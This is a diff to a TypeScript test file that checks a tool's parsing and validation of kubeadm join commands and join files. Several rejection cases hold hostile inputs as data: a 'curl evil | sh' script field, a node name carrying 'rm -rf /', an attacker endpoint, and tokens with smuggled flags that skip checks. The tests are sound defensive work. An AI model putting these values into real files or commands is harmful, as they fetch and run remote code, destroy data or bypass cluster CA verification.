@@ -14,21 +14,47 @@ const text = (f: unknown) => JSON.stringify(f);
 const clone = (): JoinFile => JSON.parse(JSON.stringify(valid));
 
 describe("parsePrintJoinCommand", () => {
-  test("reads kubeadm's printed join command, with = or space-separated flags", () => {
-    expect(parsePrintJoinCommand(`kubeadm join u7s-cp:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH} \n`)).toEqual({
-      endpoint: "u7s-cp:6443",
-      token: "abcdef.0123456789abcdef",
-      caCertHashes: [HASH],
-    });
-    expect(parsePrintJoinCommand(`kubeadm join u7s-cp:6443 --token=abcdef.0123456789abcdef --discovery-token-ca-cert-hash=${HASH} --discovery-token-ca-cert-hash=${HASH.replace("ab", "cd")}`).caCertHashes).toHaveLength(2);
+  const JOIN = { endpoint: "u7s-cp:6443", token: "abcdef.0123456789abcdef", caCertHashes: [HASH] };
+  test.each([
+    ["as kubeadm prints it", `kubeadm join u7s-cp:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH} \n`],
+    ["with = between flag and value", `kubeadm join u7s-cp:6443 --token=abcdef.0123456789abcdef --discovery-token-ca-cert-hash=${HASH}`],
+    ["with blank lines and runs of spaces", `\n  kubeadm join   u7s-cp:6443\t--token abcdef.0123456789abcdef  --discovery-token-ca-cert-hash ${HASH}\n\n`],
+    ["with a flag u7s does not use", `kubeadm join u7s-cp:6443 --v=5 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`],
+  ])("reads the join command %s", (_how, out) => {
+    expect(parsePrintJoinCommand(out)).toEqual(JOIN);
+  });
+  test("keeps every CA hash", () => {
+    const other = HASH.replace("ab", "cd");
+    expect(parsePrintJoinCommand(`kubeadm join a:1 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH} --discovery-token-ca-cert-hash=${other}`).caCertHashes).toEqual([HASH, other]);
+  });
+  const TAIL = `--token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`;
+  test.each([
+    ["not kubeadm", "echo hi", "unexpected output"],
+    ["another kubeadm command", `kubeadm token ${TAIL}`, "unexpected output"],
+    ["another program's join", `kubectl join a:1 ${TAIL}`, "unexpected output"],
+    ["no endpoint", "kubeadm join", "unexpected output"],
+    ["a flag where the endpoint goes", `kubeadm join ${TAIL}`, "unexpected output"],
+    ["no hash", "kubeadm join a:1 --token abcdef.0123456789abcdef", "without a valid token"],
+    ["bad token", `kubeadm join a:1 --token ABC --discovery-token-ca-cert-hash ${HASH}`, "without a valid token"],
+    ["a token with more before it", `kubeadm join a:1 --token 0abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`, "without a valid token"],
+    ["a hash with more after it", `kubeadm join a:1 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}00`, "without a valid token"],
+    ["a hash with more before it", `kubeadm join a:1 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash x${HASH}`, "without a valid token"],
+    ["one bad hash among good ones", `kubeadm join a:1 ${TAIL} --discovery-token-ca-cert-hash md5:00`, "without a valid token"],
+  ])("refuses output with %s", (_what, out, message) => {
+    expect(() => parsePrintJoinCommand(out)).toThrow(message);
   });
   test.each([
-    ["not kubeadm", "echo hi"],
-    ["no endpoint", `kubeadm join --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`],
-    ["no hash", "kubeadm join a:1 --token abcdef.0123456789abcdef"],
-    ["bad token", `kubeadm join a:1 --token ABC --discovery-token-ca-cert-hash ${HASH}`],
-  ])("refuses output with %s", (_what, out) => {
-    expect(() => parsePrintJoinCommand(out)).toThrow();
+    ["of another shape", "x".repeat(1000)],
+    ["without a token", `kubeadm join a:1 --token ${"x".repeat(1000)}`],
+  ])("quotes at most 200 characters of a long output %s", (_what, out) => {
+    const message = (() => {
+      try {
+        parsePrintJoinCommand(out);
+      } catch (e) {
+        return (e as Error).message;
+      }
+    })();
+    expect(message).toContain(`"${out.slice(0, 200)}"`);
   });
 });
 
@@ -40,21 +66,35 @@ describe("parseJoinFile", () => {
   // Each mutation of a valid file must be refused with a usage error naming the field.
   const malformed: [string, (f: Record<string, any>) => unknown, string][] = [
     ["not JSON", () => "kubeadm join x", "not JSON"],
-    ["a JSON array", () => [], "not an object"],
+    ["a JSON array", () => [], "the file is not an object"],
+    ["JSON null", () => null, "the file is not an object"],
+    ["a control plane that is not an object", (f) => ({ ...f, controlPlane: "u7s-cp" }), "controlPlane is not an object"],
+    ["a null join", (f) => ({ ...f, join: null }), "join is not an object"],
+    ["an unknown field in controlPlane", (f) => ({ ...f, controlPlane: { ...f.controlPlane, extra: 1 } }), "unknown field controlPlane.extra"],
     ["another kind", (f) => ({ ...f, kind: "other" }), "kind="],
     ["a newer version", (f) => ({ ...f, version: 2 }), "version=2"],
     ["an extra top-level field (a script to run)", (f) => ({ ...f, script: "curl evil | sh" }), "unknown field script"],
     ["a missing field", (f) => ({ ...f, join: undefined }), "missing field join"],
     ["a control plane name with a shell command", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: "x; rm -rf /" } }), "controlPlane.nodeName"],
+    ["a control plane name after something else", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: "evil;u7s-cp" } }), "controlPlane.nodeName"],
+    ["a control plane name before something else", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: "u7s-cp;evil" } }), "controlPlane.nodeName"],
+    ["a control plane name of 64 characters", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: "x".repeat(64) } }), "controlPlane.nodeName"],
+    ["a control plane name that is a number", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: 7 } }), "controlPlane.nodeName=7"],
     ["a host IP that is not IPv4", (f) => ({ ...f, controlPlane: { ...f.controlPlane, hostIp: "example.com" } }), "controlPlane.hostIp"],
     ["the unspecified host IP", (f) => ({ ...f, controlPlane: { ...f.controlPlane, hostIp: "0.0.0.0" } }), "controlPlane.hostIp"],
     ["a port out of range", (f) => ({ ...f, controlPlane: { ...f.controlPlane, portFlannel: 70000 } }), "controlPlane.portFlannel"],
+    ["port 0", (f) => ({ ...f, controlPlane: { ...f.controlPlane, portFlannel: 0 } }), "controlPlane.portFlannel=0"],
+    ["a port that is not an integer", (f) => ({ ...f, controlPlane: { ...f.controlPlane, portFlannel: 8472.5 } }), "controlPlane.portFlannel=8472.5"],
     ["a port as a string", (f) => ({ ...f, controlPlane: { ...f.controlPlane, portKubeApiserver: "6443" } }), "controlPlane.portKubeApiserver"],
     ["a subnet that is not /24", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeSubnet: "10.0.0.0/8" } }), "controlPlane.nodeSubnet"],
     ["an endpoint pointing elsewhere", (f) => ({ ...f, join: { ...f.join, endpoint: "evil.example:6443" } }), "join.endpoint"],
     ["a token with a flag smuggled in", (f) => ({ ...f, join: { ...f.join, token: "abcdef.0123456789abcdef --ignore-preflight-errors=all" } }), "join.token"],
+    ["a token with a flag before it", (f) => ({ ...f, join: { ...f.join, token: "--ignore-preflight-errors=all abcdef.0123456789abcdef" } }), "join.token"],
     ["no CA hash (unverified discovery)", (f) => ({ ...f, join: { ...f.join, caCertHashes: [] } }), "join.caCertHashes"],
     ["a CA hash of the wrong form", (f) => ({ ...f, join: { ...f.join, caCertHashes: ["md5:abc"] } }), "join.caCertHashes"],
+    ["a CA hash with more after it", (f) => ({ ...f, join: { ...f.join, caCertHashes: [`${HASH} --unsafe`] } }), "join.caCertHashes"],
+    ["a bad CA hash beside a good one", (f) => ({ ...f, join: { ...f.join, caCertHashes: [HASH, "md5:abc"] } }), "join.caCertHashes"],
+    ["a CA hash in a nested list", (f) => ({ ...f, join: { ...f.join, caCertHashes: [[HASH]] } }), "join.caCertHashes"],
     ["an unknown field in join", (f) => ({ ...f, join: { ...f.join, "unsafe-skip-ca-verification": true } }), "unknown field join.unsafe-skip-ca-verification"],
     ["a created time that is not a time", (f) => ({ ...f, created: "yesterday" }), "created="],
   ];
@@ -69,8 +109,31 @@ describe("parseJoinFile", () => {
     }
     expect(err).toBeInstanceOf(UsageError);
     expect((err as UsageError).exitCode).toBe(2);
-    expect((err as Error).message).toStartWith("join file j.json: ");
-    expect((err as Error).message).toContain(field);
+    const message = (err as Error).message;
+    expect(message).toContain(`join file j.json: ${field}`);
+    // a value that is not valid: the message says what is
+    if (message.includes(" is not valid")) expect(message).toMatch(/ is not valid \(.+\)$/);
+    expect((err as UsageError).hint).toContain("`u7s join-command`");
+  });
+
+  test("an endpoint other than the control plane's is refused naming the one it must be", () => {
+    expect(() => parseJoinFile(text({ ...valid, join: { ...valid.join, endpoint: "u7s-cp:443" } }), "j.json")).toThrow("u7s-cp:6443)");
+  });
+
+  test.each([
+    ["a one-letter name", "a"],
+    ["a one-letter label after a dot", "cp.a"],
+    ["longer labels after a dot", "cp.abcd"],
+    ["a dash inside a label after a dot", "cp.a-b"],
+    ["63 characters", "x".repeat(63)],
+  ])("accepts a control plane name of %s", (_what, nodeName) => {
+    const f = { ...valid, controlPlane: { ...valid.controlPlane, nodeName }, join: { ...valid.join, endpoint: `${nodeName}:6443` } };
+    expect(parseJoinFile(text(f), "j.json")).toEqual(f);
+  });
+
+  test.each([1, 65535])("accepts port %p", (port) => {
+    const f = { ...valid, controlPlane: { ...valid.controlPlane, portKubeApiserver: port }, join: { ...valid.join, endpoint: `u7s-cp:${port}` } };
+    expect(parseJoinFile(text(f), "j.json")).toEqual(f);
   });
 });
 
